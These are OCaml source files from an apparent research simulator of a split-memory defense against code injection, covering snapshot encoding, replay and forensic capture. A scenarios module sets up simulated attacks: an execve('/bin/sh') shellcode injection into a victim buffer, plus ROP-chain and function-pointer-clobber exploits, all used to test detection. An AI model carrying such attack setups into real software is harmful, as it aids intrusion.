     TLB miss after resume walks the right address space *)
  (match snap.sn_last_running with
  | Some pid when Kernel.Os.proc os pid <> None ->
    Kernel.Os.load_pagetables os (Option.get (Kernel.Os.proc os pid))
  | _ -> Hw.Mmu.reload_cr3 mmu (fun _ -> None));
  (* TLB contents last: reload_cr3 above flushed and bumped stats; import
     overwrites both with the snapshot's exact state *)
  Hw.Tlb.import (Hw.Mmu.itlb mmu) snap.sn_itlb;
  Hw.Tlb.import (Hw.Mmu.dtlb mmu) snap.sn_dtlb;
  cost.cycles <- snap.sn_cost.cs_cycles;
  cost.insns <- snap.sn_cost.cs_insns;
  cost.traps <- snap.sn_cost.cs_traps;
  cost.split_faults <- snap.sn_cost.cs_split_faults;
  cost.single_steps <- snap.sn_cost.cs_single_steps;
  cost.syscalls <- snap.sn_cost.cs_syscalls;
  cost.ctx_switches <- snap.sn_cost.cs_ctx_switches;
  let obs = Kernel.Os.obs os in
  if Obs.enabled obs then begin
    Obs.count obs "snap.restores";
    Obs.Metrics.observe (Obs.histogram obs "snap.restore_us") (us_since t0)
  end

(* ------------------------------------------------------------------ *)
(* Binary encoding                                                     *)
(* ------------------------------------------------------------------ *)

let event_w b (e : Kernel.Event_log.event) =
  let open Codec.W in
  match e with
  | Exec_shell { pid; path } ->
    u8 b 0;
    int b pid;
    str b path
  | Injection_detected { pid; eip; mode } ->
    u8 b 1;
    int b pid;
    int b eip;
    str b mode
  | Shellcode_dump { pid; eip; bytes } ->
    u8 b 2;
    int b pid;
    int b eip;
    str b bytes
  | Forensic_injected { pid; new_eip } ->
    u8 b 3;
    int b pid;
    int b new_eip
  | Recovery_invoked { pid; handler; faulting_eip } ->
    u8 b 4;
    int b pid;
    int b handler;
    int b faulting_eip
  | Execution_trail { pid; eips } ->
    u8 b 5;
    int b pid;
    list int b eips
  | Signal_delivered { pid; signal } ->
    u8 b 6;
    int b pid;
    str b signal
  | Syscall_traced { pid; name; info } ->
    u8 b 7;
    int b pid;
    str b name;
    str b info
  | Process_exited { pid; status } ->
    u8 b 8;
    int b pid;
    str b status
  | Library_rejected { name } ->
    u8 b 9;
    str b name
  | Note s ->
    u8 b 10;
    str b s
  | Fault_detected { pid; kind; action } ->
    u8 b 11;
    int b pid;
    str b kind;
    str b action

let event_r r : Kernel.Event_log.event =
  let open Codec.R in
  match u8 r with
  | 0 ->
    let pid = int r in
    let path = str r in
    Exec_shell { pid; path }
  | 1 ->
    let pid = int r in
    let eip = int r in
    let mode = str r in
    Injection_detected { pid; eip; mode }
  | 2 ->
    let pid = int r in
    let eip = int r in
    let bytes = str r in
    Shellcode_dump { pid; eip; bytes }
  | 3 ->
    let pid = int r in
    let new_eip = int r in
    Forensic_injected { pid; new_eip }
  | 4 ->
    let pid = int r in
    let handler = int r in
    let faulting_eip = int r in
    Recovery_invoked { pid; handler; faulting_eip }
  | 5 ->
    let pid = int r in
    let eips = list int r in
    Execution_trail { pid; eips }
  | 6 ->
    let pid = int r in
    let signal = str r in
    Signal_delivered { pid; signal }
  | 7 ->
    let pid = int r in
    let name = str r in
    let info = str r in
    Syscall_traced { pid; name; info }
  | 8 ->
    let pid = int r in
    let status = str r in
    Process_exited { pid; status }
  | 9 -> Library_rejected { name = str r }
  | 10 -> Note (str r)
  | 11 ->
    let pid = int r in
    let kind = str r in
    let action = str r in
    Fault_detected { pid; kind; action }
  | n -> raise (Codec.Corrupt (Fmt.str "bad event tag %d" n))

let pair fa fb b (x, y) =
  fa b x;
  fb b y

let pair_r fa fb r =
  let a = fa r in
  let b = fb r in
  (a, b)

let triple fa fb fc b (x, y, z) =
  fa b x;
  fb b y;
  fc b z

let triple_r fa fb fc r =
  let a = fa r in
  let b = fb r in
  let c = fc r in
  (a, b, c)

let tlb_w b (s : Hw.Tlb.state) =
  let open Codec.W in
  list
    (fun b (e : Hw.Tlb.entry) ->
      int b e.vpn;
      int b e.frame;
      bool b e.user;
      bool b e.writable;
      bool b e.nx)
    b s.s_entries;
  list int b s.s_fifo;
  int b s.s_hits;
  int b s.s_misses;
  int b s.s_flushes;
  int b s.s_invalidations;
  int b s.s_evictions

let tlb_r r : Hw.Tlb.state =
  let open Codec.R in
  let s_entries =
    list
      (fun r ->
        let vpn = int r in
        let frame = int r in
        let user = bool r in
        let writable = bool r in
        let nx = bool r in
        { Hw.Tlb.vpn; frame; user; writable; nx })
      r
  in
  let s_fifo = list int r in
  let s_hits = int r in
  let s_misses = int r in
  let s_flushes = int r in
  let s_invalidations = int r in
  let s_evictions = int r in
  { s_entries; s_fifo; s_hits; s_misses; s_flushes; s_invalidations; s_evictions }

let proc_w b (p : proc_state) =
  let open Codec.W in
  int b p.pr_pid;
  str b p.pr_name;
  opt int b p.pr_parent;
  int_array b p.pr_gpr;
  int b p.pr_eip;
  bool b p.pr_zf;
  bool b p.pr_sf;
  bool b p.pr_tf;
  u8 b p.pr_state;
  opt (pair int int) b p.pr_wait;
  opt (pair int int) b p.pr_exit;
  int b p.pr_next_fd;
  opt int b p.pr_pending_fault;
  bool b p.pr_sebek;
  int b p.pr_detections;
  opt int b p.pr_recovery;
  int_array b p.pr_trace;
  int b p.pr_trace_pos;
  int b p.pr_insns;
  bool b p.pr_protected;
  int b p.pr_console_in;
  int b p.pr_console_out;
  list (triple int bool int) b p.pr_fds;
  int b p.pr_brk;
  int b p.pr_mmap_cursor;
  list
    (fun b rs ->
      int b rs.rs_lo;
      int b rs.rs_hi;
      u8 b rs.rs_kind;
      bool b rs.rs_writable;
      bool b rs.rs_execable;
      opt (pair int str) b rs.rs_source)
    b p.pr_regions;
  list
    (fun b ps ->
      int b ps.ps_vpn;
      u8 b ps.ps_kind;
      int b ps.ps_frame;
      bool b ps.ps_present;
      bool b ps.ps_writable;
      bool b ps.ps_user;
      bool b ps.ps_nx;
      bool b ps.ps_cow;
      bool b ps.ps_orig_writable;
      opt (triple int int bool) b ps.ps_split)
    b p.pr_ptes

let proc_r r : proc_state =
  let open Codec.R in
  let pr_pid = int r in
  let pr_name = str r in
  let pr_parent = opt int r in
  let pr_gpr = int_array r in
  let pr_eip = int r in
  let pr_zf = bool r in
  let pr_sf = bool r in
  let pr_tf = bool r in
  let pr_state = u8 r in
  let pr_wait = opt (pair_r int int) r in
  let pr_exit = opt (pair_r int int) r in
  let pr_next_fd = int r in
  let pr_pending_fault = opt int r in
  let pr_sebek = bool r in
  let pr_detections = int r in
  let pr_recovery = opt int r in
  let pr_trace = int_array r in
  let pr_trace_pos = int r in
  let pr_insns = int r in
  let pr_protected = bool r in
  let pr_console_in = int r in
  let pr_console_out = int r in
  let pr_fds = list (triple_r int bool int) r in
  let pr_brk = int r in
  let pr_mmap_cursor = int r in
  let pr_regions =
    list
      (fun r ->
        let rs_lo = int r in
        let rs_hi = int r in
        let rs_kind = u8 r in
        let rs_writable = bool r in
        let rs_execable = bool r in
        let rs_source = opt (pair_r int str) r in
        { rs_lo; rs_hi; rs_kind; rs_writable; rs_execable; rs_source })
      r
  in
  let pr_ptes =
    list
      (fun r ->
        let ps_vpn = int r in
        let ps_kind = u8 r in
        let ps_frame = int r in
        let ps_present = bool r in
        let ps_writable = bool r in
        let ps_user = bool r in
        let ps_nx = bool r in
        let ps_cow = bool r in
        let ps_orig_writable = bool r in
        let ps_split = opt (triple_r int int bool) r in
        {
          ps_vpn;
          ps_kind;
          ps_frame;
          ps_present;
          ps_writable;
          ps_user;
          ps_nx;
          ps_cow;
          ps_orig_writable;
          ps_split;
        })
      r
  in
  {
    pr_pid;
    pr_name;
    pr_parent;
    pr_gpr;
    pr_eip;
    pr_zf;
    pr_sf;
    pr_tf;
    pr_state;
    pr_wait;
    pr_exit;
    pr_next_fd;
    pr_pending_fault;
    pr_sebek;
    pr_detections;
    pr_recovery;
    pr_trace;
    pr_trace_pos;
    pr_insns;
    pr_protected;
    pr_console_in;
    pr_console_out;
    pr_fds;
    pr_brk;
    pr_mmap_cursor;
    pr_regions;
    pr_ptes;
  }

let encode t =
  let open Codec.W in
  let b = create () in
  raw b magic;
  int b version;
  int b t.sn_page_size;
  int b t.sn_frame_count;
  str b t.sn_protection;
  int b t.sn_params_hash;
  int b t.sn_cost.cs_cycles;
  int b t.sn_cost.cs_insns;
  int b t.sn_cost.cs_traps;
  int b t.sn_cost.cs_split_faults;
  int b t.sn_cost.cs_single_steps;
  int b t.sn_cost.cs_syscalls;
  int b t.sn_cost.cs_ctx_switches;
  list (pair int str) b t.sn_frames;
  int b t.sn_frames_skipped;
  list int b t.sn_alloc.s_free;
  int_array b t.sn_alloc.s_refcount;
  int b t.sn_alloc.s_in_use;
  int b t.sn_alloc.s_peak_in_use;
  tlb_w b t.sn_itlb;
  tlb_w b t.sn_dtlb;
  list (pair int (fun b (s : Kernel.Pipe.state) ->
            str b s.s_name;
            int b s.s_capacity;
            str b s.s_pending;
            int b s.s_readers;
            int b s.s_writers;
            int b s.s_bytes_written))
    b t.sn_pipes;
  list proc_w b t.sn_procs;
  list
    (pair str (fun b (l : Kernel.Os.library) ->
         int b l.lib_base;
         str b l.code;
         int b l.lib_signature))
    b t.sn_libs;
  list int b t.sn_runq;
  str b t.sn_rng;
  opt int b t.sn_last_running;
  int b t.sn_next_pid;
  int b t.sn_next_tick;
  int b t.sn_ticks;
  int b t.sn_lib_cursor;
  list event_w b t.sn_events;
  list (pair str str) b t.sn_meta;
  opt
    (fun b (tr : trigger) ->
      int b tr.t_pid;
      int b tr.t_eip;
      str b tr.t_mode)
    b t.sn_trigger;
  contents b

let decode s =
  let open Codec.R in
  let r = of_string s in
  expect r magic;
  let v = int r in
  if v <> version then
    raise (Codec.Corrupt (Fmt.str "unsupported snapshot version %d (expected %d)" v version));
  let sn_page_size = int r in
  let sn_frame_count = int r in
  let sn_protection = str r in
  let sn_params_hash = int r in
  let cs_cycles = int r in
  let cs_insns = int r in
  let cs_traps = int r in
  let cs_split_faults = int r in
  let cs_single_steps = int r in
  let cs_syscalls = int r in
  let cs_ctx_switches = int r in
  let sn_frames = list (pair_r int str) r in
  let sn_frames_skipped = int r in
  let s_free = list int r in
  let s_refcount = int_array r in
  let s_in_use = int r in
  let s_peak_in_use = int r in
  let sn_itlb = tlb_r r in
  let sn_dtlb = tlb_r r in
  let sn_pipes =
    list
      (pair_r int (fun r ->
           let s_name = str r in
           let s_capacity = int r in
           let s_pending = str r in
           let s_readers = int r in
           let s_writers = int r in
           let s_bytes_written = int r in
           {
             Kernel.Pipe.s_name;
             s_capacity;
             s_pending;
             s_readers;
             s_writers;
             s_bytes_written;
           }))
      r
  in
  let sn_procs = list proc_r r in
  let sn_libs =
    list
      (pair_r str (fun r ->
           let lib_base = int r in
           let code = str r in
           let lib_signature = int r in
           { Kernel.Os.lib_base; code; lib_signature }))
      r
  in
  let sn_runq = list int r in
  let sn_rng = str r in
  let sn_last_running = opt int r in
  let sn_next_pid = int r in
  let sn_next_tick = int r in
  let sn_ticks = int r in
  let sn_lib_cursor = int r in
  let sn_events = list event_r r in
  let sn_meta = list (pair_r str str) r in
  let sn_trigger =
    opt
      (fun r ->
        let t_pid = int r in
        let t_eip = int r in
        let t_mode = str r in
        { t_pid; t_eip; t_mode })
      r
  in
  if not (at_end r) then raise (Codec.Corrupt "trailing bytes after snapshot");
  {
    sn_page_size;
    sn_frame_count;
    sn_protection;
    sn_params_hash;
    sn_cost =
      {
        cs_cycles;
        cs_insns;
        cs_traps;
        cs_split_faults;
        cs_single_steps;
        cs_syscalls;
        cs_ctx_switches;
      };
    sn_frames;
    sn_frames_skipped;
    sn_alloc = { s_free; s_refcount; s_in_use; s_peak_in_use };
    sn_itlb;
    sn_dtlb;
    sn_pipes;
    sn_procs;
    sn_libs;
    sn_runq;
    sn_rng;
    sn_last_running;
    sn_next_pid;
    sn_next_tick;
    sn_ticks;
    sn_lib_cursor;
    sn_events;
    sn_meta;
    sn_trigger;
  }

(* ------------------------------------------------------------------ *)
(* Manifest + files                                                    *)
(* ------------------------------------------------------------------ *)

let manifest t : Obs.Json.t =
  let open Obs.Json in
  Obj
    [
      ("format", Str (Fmt.str "snap/%d" version));
      ("cycle", Int t.sn_cost.cs_cycles);
      ("insns", Int t.sn_cost.cs_insns);
      ("page_size", Int t.sn_page_size);
      ("frame_count", Int t.sn_frame_count);
      ("frames_written", Int (frames_written t));
      ("frames_sparse_skipped", Int t.sn_frames_skipped);
      ("protection", Str t.sn_protection);
      ("events", Int (List.length t.sn_events));
      ( "procs",
        List
          (List.map
             (fun (pid, name, state) ->
               Obj [ ("pid", Int pid); ("name", Str name); ("state", Str state) ])
             (proc_summaries t)) );
      ("meta", Obj (List.map (fun (k, v) -> (k, Str v)) t.sn_meta));
      ( "trigger",
        match t.sn_trigger with
        | None -> Null
        | Some tr ->
          Obj
            [
              ("pid", Int tr.t_pid);
              ("eip", Str (Fmt.str "0x%08x" tr.t_eip));
              ("mode", Str tr.t_mode);
            ] );
    ]

let save ?(obs = Obs.null) ~file t =
  let bin = encode t in
  Out_channel.with_open_bin file (fun oc -> Out_channel.output_string oc bin);
  let man =
    match manifest t with
    | Obj fields -> Obs.Json.Obj (fields @ [ ("bytes", Obs.Json.Int (String.length bin)) ])
    | j -> j
  in
  Out_channel.with_open_text (file ^ ".manifest.json") (fun oc ->
      Out_channel.output_string oc (Obs.Json.to_string man);
      Out_channel.output_char oc '\n');
  if Obs.enabled obs then
    Obs.Metrics.incr ~by:(String.length bin) (Obs.counter obs "snap.bytes_written");
  String.length bin

let load file = decode (In_channel.with_open_bin file In_channel.input_all)
