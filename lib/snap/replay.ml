type report = {
  checkpoint_cycle : int;
  ref_stop : Kernel.Os.stop_reason;
  replay_stop : Kernel.Os.stop_reason;
  ref_cycles : int;
  replay_cycles : int;
  ref_events : string list;
  replay_events : string list;
  divergence : string option;
}

let ok r = r.divergence = None

let stop_name : Kernel.Os.stop_reason -> string = function
  | All_exited -> "all_exited"
  | All_blocked -> "all_blocked"
  | Fuel_exhausted -> "fuel_exhausted"

let render_log os =
  List.map
    (Fmt.str "%a" Kernel.Event_log.pp_event)
    (Kernel.Event_log.to_list (Kernel.Os.log os))

let cost_fields (c : Hw.Cost.t) =
  [
    ("cycles", c.cycles);
    ("insns", c.insns);
    ("traps", c.traps);
    ("split_faults", c.split_faults);
    ("single_steps", c.single_steps);
    ("syscalls", c.syscalls);
    ("ctx_switches", c.ctx_switches);
  ]

let first_divergence ~ref_stop ~replay_stop ~ref_cost ~replay_cost ~ref_events
    ~replay_events =
  if ref_stop <> replay_stop then
    Some (Fmt.str "stop reason: ref=%s replay=%s" (stop_name ref_stop) (stop_name replay_stop))
  else
    match
      List.find_opt
        (fun ((_, a), (_, b)) -> a <> b)
        (List.combine ref_cost replay_cost)
    with
    | Some ((name, a), (_, b)) ->
      Some (Fmt.str "cost.%s: ref=%d replay=%d" name a b)
    | None ->
      let la = List.length ref_events and lb = List.length replay_events in
      if la <> lb then Some (Fmt.str "event count: ref=%d replay=%d" la lb)
      else
        List.combine ref_events replay_events
        |> List.mapi (fun i (a, b) -> (i, a, b))
        |> List.find_opt (fun (_, a, b) -> a <> b)
        |> Option.map (fun (i, a, b) ->
               Fmt.str "event %d: ref=%S replay=%S" i a b)

let check ?(fuel_to_checkpoint = 1500) ?(fuel = 2_000_000) os =
  ignore (Kernel.Os.run ~fuel:fuel_to_checkpoint os : Kernel.Os.stop_reason);
  let snap = Snapshot.checkpoint os in
  let ref_stop = Kernel.Os.run ~fuel os in
  let ref_cost = cost_fields (Kernel.Os.cost os) in
  let ref_events = render_log os in
  Snapshot.restore os snap;
  let replay_stop = Kernel.Os.run ~fuel os in
  let replay_cost = cost_fields (Kernel.Os.cost os) in
  let replay_events = render_log os in
  let divergence =
    first_divergence ~ref_stop ~replay_stop ~ref_cost ~replay_cost ~ref_events
      ~replay_events
  in
  ( {
      checkpoint_cycle = Snapshot.cycle snap;
      ref_stop;
      replay_stop;
      ref_cycles = List.assoc "cycles" ref_cost;
      replay_cycles = List.assoc "cycles" replay_cost;
      ref_events;
      replay_events;
      divergence;
    },
    snap )

let pp ppf r =
  match r.divergence with
  | None ->
    Fmt.pf ppf
      "replay OK: checkpoint@%d cycles, both runs ended at %d cycles (%s), %d events \
       identical"
      r.checkpoint_cycle r.ref_cycles (stop_name r.ref_stop)
      (List.length r.ref_events)
  | Some d ->
    Fmt.pf ppf "replay DIVERGED: checkpoint@%d cycles — %s" r.checkpoint_cycle d
