(** Binary reader/writer primitives for the snapshot format.

    Integers are zigzag-encoded into 8 little-endian bytes (OCaml ints are
    63-bit, all simulator values fit in 62), strings and lists are
    length-prefixed, options and booleans are single tag bytes. The format
    favors dead-simple decoding over compactness — sparse frame skipping
    (see {!Snapshot}) is where the real size win lives. *)

exception Corrupt of string
(** Raised by every read on truncated or malformed input. *)

module W : sig
  type t

  val create : unit -> t
  val u8 : t -> int -> unit
  val int : t -> int -> unit
  val bool : t -> bool -> unit
  val str : t -> string -> unit
  val opt : (t -> 'a -> unit) -> t -> 'a option -> unit
  val list : (t -> 'a -> unit) -> t -> 'a list -> unit
  val int_array : t -> int array -> unit
  val raw : t -> string -> unit
  (** Append bytes verbatim, no length prefix (magic headers). *)

  val contents : t -> string
end

module R : sig
  type t

  val of_string : string -> t
  val u8 : t -> int
  val int : t -> int
  val bool : t -> bool
  val str : t -> string
  val opt : (t -> 'a) -> t -> 'a option
  val list : (t -> 'a) -> t -> 'a list
  val int_array : t -> int array
  val at_end : t -> bool
  val expect : t -> string -> unit
  (** Consume exactly these raw bytes or raise {!Corrupt}. *)
end
