(** Forensic capture at the detection instant.

    {!arm} subscribes to the kernel event log; the moment the split-memory
    defense reports [Injection_detected] (paper §4.5, Algorithm 3 — "the
    exact moment the first injected instruction is about to execute"), it
    freezes the whole machine into a snapshot, diffs the faulting page's
    pristine code copy against its data copy, and extracts the injected
    payload bytes from the diff. The capture happens synchronously inside
    the detection path, before any response mode (Break teardown, Forensics
    payload substitution) mutates the machine. *)

type diff_range = {
  dr_off : int;  (** page offset of the first differing byte *)
  dr_code : string;  (** code-copy bytes over the range *)
  dr_data : string;  (** data-copy bytes over the range *)
}

type page_diff = {
  pd_vpn : int;
  pd_code_frame : int;
  pd_data_frame : int;
  pd_ranges : diff_range list;  (** ascending; gaps <= {!gap_tolerance} merged *)
}

val gap_tolerance : int
(** Differing byte ranges separated by at most this many equal bytes are
    merged into one — injected payloads legitimately contain runs of 0x00
    (imm32 encodings, string terminators) that match the zero-filled code
    copy byte-for-byte. *)

type capture = {
  c_trigger : Snapshot.trigger;
  c_snapshot : Snapshot.t;  (** whole machine at the detection instant *)
  c_diff : page_diff option;  (** [None] when the faulting page is not split *)
  c_payload_off : int;  (** page offset the extracted payload starts at *)
  c_payload : string;  (** injected bytes (the merged range containing EIP) *)
  c_dir : string option;  (** artifact directory, when written *)
}

val page_diff : Kernel.Os.t -> pid:int -> addr:int -> page_diff option
(** Diff the code copy against the data copy of the page mapping [addr] in
    process [pid]. [None] if the process/page is unknown or not split. *)

val extract_payload : page_diff -> eip_off:int -> (int * string) option
(** [(start_off, bytes)] of the merged differing range containing (or
    starting at) [eip_off] — the injected instructions the CPU was about to
    run, read from the data copy. *)

val arm : ?dir:string -> ?all:bool -> Kernel.Os.t -> capture list ref
(** Start capturing. Returns the (initially empty) capture list, appended
    to on each detection — by default only the first detection is captured
    ([all:true] captures every one). When [dir] is given, each capture [k]
    writes [capture-k.snap] (+ manifest), [capture-k.payload.bin] and
    [capture-k.diff.json] beneath it (the directory is created). *)

val diff_json : capture -> Obs.Json.t
