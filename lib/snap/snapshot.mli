(** Whole-machine snapshots: checkpoint/restore of a live simulation.

    A snapshot is a deep, immutable copy of everything that determines the
    simulation's future: CPU registers, both TLBs (including their raw FIFO
    replacement queues), physical frames (sparse — all-zero frames are
    skipped), the frame allocator, every process (pagetables with
    code/data-copy split mappings, regions, descriptors, pipes), registered
    libraries, scheduler state, the kernel PRNG, cost counters and the
    event log.

    The binary format is versioned ({!magic}, {!version}); {!manifest}
    renders a human-readable JSON summary written next to the binary by
    {!save}.

    Limitations (v1): the optional I/D cache timing model is not
    serialized — {!checkpoint} and {!restore} reject machines with caches
    enabled. The kernel PRNG is stored as an opaque [Marshal] blob, so
    snapshot files are portable only across builds with the same OCaml
    [Random] representation. *)

val version : int
val magic : string

type trigger = { t_pid : int; t_eip : int; t_mode : string }
(** The detection event that motivated a forensic snapshot. *)

type t

val cycle : t -> int
(** Cycle counter at capture time. *)

val page_size : t -> int
val frame_count : t -> int
val frames_written : t -> int
val frames_sparse_skipped : t -> int
val protection_name : t -> string
val meta : t -> (string * string) list
val find_meta : t -> string -> string option
val trigger : t -> trigger option
val proc_summaries : t -> (int * string * string) list
(** [(pid, name, state)] per process, pid order. *)

val checkpoint :
  ?meta:(string * string) list -> ?trigger:trigger -> Kernel.Os.t -> t
(** Deep-copy the machine. Safe at any point where no instruction is
    mid-execution; for bit-exact replay, capture at a scheduler-loop
    boundary (which is where {!Kernel.Os.run} with bounded fuel stops and
    where {!Ring} hooks fire). [meta] carries free-form provenance (e.g.
    scenario name) into the manifest and binary.
    @raise Invalid_argument if the machine has the cache model enabled. *)

val restore : Kernel.Os.t -> t -> unit
(** Overwrite a compatible live machine with the snapshot state in place.
    The target must have the same page size, frame count, protection name
    and cost parameters (in practice: a machine built by the same scenario
    constructor). @raise Invalid_argument on configuration mismatch. *)

val encode : t -> string
val decode : string -> t
(** @raise Codec.Corrupt on truncation, bad magic or unknown version. *)

val manifest : t -> Obs.Json.t

val save : ?obs:Obs.t -> file:string -> t -> int
(** Write [file] (binary) plus [file].manifest.json; returns the binary
    size in bytes. Bumps [snap.bytes_written] when [obs] is enabled. *)

val load : string -> t
(** @raise Codec.Corrupt, [Sys_error]. *)
