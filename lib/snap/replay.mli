(** Deterministic replay: checkpoint mid-run, finish the run, then restore
    the checkpoint and re-run — the event log and every cost counter must
    match the reference run bit-for-bit. This is the regression gate that
    protects the simulator's determinism contract (and therefore every
    cycle-count result in the paper reproduction). *)

type report = {
  checkpoint_cycle : int;  (** cycle at which the snapshot was taken *)
  ref_stop : Kernel.Os.stop_reason;
  replay_stop : Kernel.Os.stop_reason;
  ref_cycles : int;  (** final cycle count of the reference run *)
  replay_cycles : int;
  ref_events : string list;  (** rendered event log, oldest first *)
  replay_events : string list;
  divergence : string option;  (** [None] = bit-for-bit identical *)
}

val ok : report -> bool

val check : ?fuel_to_checkpoint:int -> ?fuel:int -> Kernel.Os.t -> report * Snapshot.t
(** [check os] drives a freshly started machine: run [fuel_to_checkpoint]
    instructions (default 1500), checkpoint, run the rest of the way
    (bounded by [fuel], default 2,000,000) recording the reference outcome,
    then restore the checkpoint into the same machine and re-run. The
    returned snapshot is the mid-run checkpoint. *)

val pp : Format.formatter -> report -> unit
