open Isa.Asm
open Isa.Reg

type t = {
  name : string;
  descr : string;
  defense : Defense.t;
  start : ?obs:Obs.t -> unit -> Kernel.Os.t;
}

(* A benign server-ish workload: a load/modify/store loop over the data
   segment, a console write, then a clean exit. Long enough (~2500 insns)
   that a default-fuel checkpoint lands mid-loop. *)
let benign_image () =
  Kernel.Image.build ~name:"benign-loop"
    ~data:(fun ~lbl:_ -> [ L "buf"; Bytes "tick"; Space 60 ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (ECX, 600));
        I (Mov_ri (EBX, lbl "buf"));
        L "loop";
        I (Load (EAX, EBX, 0));
        I (Add_ri (EAX, 3));
        I (Store (EBX, 0, EAX));
        I (Add_ri (ECX, -1));
        I (Cmp_ri (ECX, 0));
        I (Jnz (Lbl "loop"));
      ]
      @ Guest.sys_write_imm ~buf:(lbl "buf") ~len:4 ()
      @ Guest.sys_exit 0)
    ~entry:"main" ()

(* The injection victim: read attacker bytes into a writable data-segment
   buffer, spin a little (so mid-run checkpoints land before detonation),
   then jump into the buffer — the classic injected-code detonation the
   split defense intercepts at the first fetched byte. *)
let victim_image () =
  Kernel.Image.build ~name:"inject-victim"
    ~data:(fun ~lbl:_ -> [ L "buf"; Space 128 ])
    ~code:(fun ~lbl ->
      (L "main" :: Guest.sys_read_imm ~buf:(lbl "buf") ~len:128)
      @ [
          I (Mov_ri (ECX, 500));
          L "spin";
          I (Add_ri (ECX, -1));
          I (Cmp_ri (ECX, 0));
          I (Jnz (Lbl "spin"));
          I (Mov_ri (ESI, lbl "buf"));
          I (Jmp_r ESI);
        ])
    ~entry:"main" ()

let victim = victim_image ()
let payload_landing = Hashtbl.find victim.labels "buf"

(* execve("/bin/sh") + exit, assembled for the landing address, with a
   trailing NOP so the payload ends on a nonzero byte: the code copy the
   diff runs against is zero-filled, and a zero tail would be invisible to
   it. Interior zero runs (imm32 operands, the "/bin/sh" terminator) stay
   within Forensics.gap_tolerance. *)
let injected_payload =
  Attack.Shellcode.execve_bin_sh ~sled:8 ~base:payload_landing () ^ "\x90"

let start_with ~defense ~image ~input ?obs () =
  let protection = Defense.to_protection defense in
  let k =
    Kernel.Os.create ?obs ~tlb_fill:(Defense.tlb_fill defense) ~protection ()
  in
  let p = Kernel.Os.spawn k image in
  (match input with
  | None -> ()
  | Some s -> ignore (Kernel.Os.feed_stdin k p s : int));
  k

let attack ~name ~descr ~response =
  let defense = Defense.split_with ~response () in
  {
    name;
    descr;
    defense;
    start =
      (fun ?obs () ->
        start_with ~defense ~image:victim ~input:(Some injected_payload) ?obs ());
  }

(* Code-reuse scenarios: the same snapshot/replay machinery pointed at
   attacks that never inject a byte. The exploit input is fully
   self-driving (the text layout is static, so no leak step), which lets
   a checkpoint land anywhere — including between corruption and
   detonation — and still reach the same verdict. *)
let reuse ~name ~descr ~defense attack =
  {
    name;
    descr;
    defense;
    start =
      (fun ?obs () ->
        let img = Reuse.Victim.image () in
        let input = Reuse.Campaign.packet img attack in
        start_with ~defense ~image:img ~input:(Some input) ?obs ());
  }

let all =
  [
    (let defense = Defense.split_standalone in
     {
       name = "benign";
       descr = "compute/IO loop under full split memory, no attack";
       defense;
       start =
         (fun ?obs () ->
           start_with ~defense ~image:(benign_image ()) ~input:None ?obs ());
     });
    attack ~name:"attack-break" ~descr:"shellcode injection, Break response"
      ~response:Split_memory.Response.Break;
    attack ~name:"attack-forensics"
      ~descr:"shellcode injection, Forensics response"
      ~response:(Split_memory.Response.Forensics { payload = None });
    attack ~name:"attack-observe"
      ~descr:"shellcode injection, Observe response with Sebek tracing"
      ~response:(Split_memory.Response.Observe { sebek = true });
    reuse ~name:"reuse-rop"
      ~descr:"ROP chain under split memory alone — escapes (paper §7)"
      ~defense:Defense.split_standalone Reuse.Campaign.Rop_chain;
    reuse ~name:"reuse-rop-cfi"
      ~descr:"the same ROP chain under split memory + CFI — detected"
      ~defense:Defense.split_plus_cfi Reuse.Campaign.Rop_chain;
    reuse ~name:"reuse-fptr-cfi"
      ~descr:"function-pointer clobber into existing text under CFI alone"
      ~defense:Defense.cfi Reuse.Campaign.Fptr_clobber;
    (* Scale-out: 10k identical protected guests sharing their image
       frames (loader COW). Exercises indexed wakeups, the children index
       and refcounted shared frames across snapshot/replay — a mid-run
       checkpoint here serializes the whole 10k-process machine. Under the
       mixed-only split policy nothing in this guest splits, so the image
       frames stay fully shared and the machine's private footprint is
       per-process stacks only. *)
    (let defense = Defense.split_mixed_plus_nx in
     {
       name = "scale";
       descr = "10k identical COW-shared guests under split memory + NX";
       defense;
       start =
         (fun ?obs () ->
           let k =
             Kernel.Os.create ?obs ~frames:32768
               ~tlb_fill:(Defense.tlb_fill defense) ~share_images:true
               ~protection:(Defense.to_protection defense) ()
           in
           let img = Workload.Guests.scale_unit ~rounds:2 () in
           for _ = 1 to 10_000 do
             ignore (Kernel.Os.spawn k img : Kernel.Proc.t)
           done;
           k);
     });
  ]

let names = List.map (fun s -> s.name) all
let find name = List.find_opt (fun s -> s.name = name) all
