type t = {
  os : Kernel.Os.t;
  every_cycles : int;
  keep : int;
  mutable next_at : int;
  mutable snaps : Snapshot.t list;  (* newest first *)
  mutable taken : int;
  mutable evicted : int;
}

let tick r () =
  let cycles = (Kernel.Os.cost r.os).cycles in
  if cycles >= r.next_at then begin
    let snap = Snapshot.checkpoint ~meta:[ ("source", "auto-ring") ] r.os in
    r.snaps <- snap :: r.snaps;
    r.taken <- r.taken + 1;
    if List.length r.snaps > r.keep then begin
      r.snaps <- List.filteri (fun i _ -> i < r.keep) r.snaps;
      r.evicted <- r.evicted + 1
    end;
    (* schedule relative to now, not to the nominal slot: a long quantum
       can overshoot several periods and we don't want a catch-up burst *)
    r.next_at <- cycles + r.every_cycles
  end

let install ~every_cycles ~keep os =
  if every_cycles <= 0 then invalid_arg "Ring.install: every_cycles must be positive";
  if keep <= 0 then invalid_arg "Ring.install: keep must be positive";
  let r =
    {
      os;
      every_cycles;
      keep;
      next_at = (Kernel.Os.cost os).cycles + every_cycles;
      snaps = [];
      taken = 0;
      evicted = 0;
    }
  in
  Kernel.Os.set_sched_hook os (Some (tick r));
  r

let uninstall r = Kernel.Os.set_sched_hook r.os None
let snapshots r = List.rev r.snaps
let latest r = match r.snaps with [] -> None | s :: _ -> Some s
let taken r = r.taken
let evicted r = r.evicted
