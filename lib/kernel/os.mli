(** The mini operating system: loader, demand paging, copy-on-write, fork,
    pipes, syscalls, signals and a round-robin scheduler, all built around a
    pluggable {!Protection.t}.

    The guest/host boundary mirrors the paper's: guest code runs on the
    simulated CPU in user mode; everything here is "kernel" and manipulates
    PTEs and TLBs the way the Linux patch of §5 does.

    This module is a facade over four explicit layers — {!Machine} (state
    and memory/process services), {!Syscalls} (the declarative syscall
    table), {!Trap} (trap taxonomy and dispatch through the protection
    hooks) and {!Sched} (the run loop). Use {!machine} to reach a layer
    directly; this API is the stable surface. *)

exception Rejected_image of string
(** Raised by {!spawn} when signature verification fails (paper §4.3). *)

exception Efault
